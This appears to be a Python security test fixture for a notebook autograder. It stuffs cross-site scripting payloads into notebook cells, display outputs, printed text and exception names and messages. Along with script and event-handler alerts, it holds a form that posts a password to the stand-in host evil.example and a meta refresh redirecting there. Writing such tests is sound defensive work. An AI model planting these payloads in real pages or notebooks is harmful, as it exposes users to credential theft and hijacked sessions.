"""Presentation: live markup in outputs, errors, markdown, names and warnings."""
DESERVES = 7


def hand_in(course, student, notebook):
    evil = "<script>alert('xss-md')</script><img src=x onerror=alert('xss-md')><iframe src='javascript:alert(1)'>"
    notebook["cells"].insert(1, {"cell_type": "markdown", "id": "evil", "metadata": {}, "source": evil + "\n\n[x](javascript:alert(1))"})
    notebook["cells"].append({"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": evil})
    course.hand_in(student, notebook)
# %% attention
from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>alert('xss-html')</script><form action=http://evil.example><input name=password></form>"))
display(Javascript("alert('xss-js')"), {"text/html": "<img src=x onerror=alert('xss-raw')>"}, raw=False)
print("<script>alert('xss-print')</script>")


def attention(q, k, v):
    raise ValueError("<script>alert('xss-error')</script><img src=x onerror=alert('xss-error')>")
# %% extra
HTML("<svg onload=alert('xss-svg')><style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>")
# %% extra
type("<b>E</b><script>alert('xss-type')</script>", (Exception,), {})
raise type("<script>alert('xss-type')</script>", (Exception,), {})("<script>alert('xss-value')</script>")
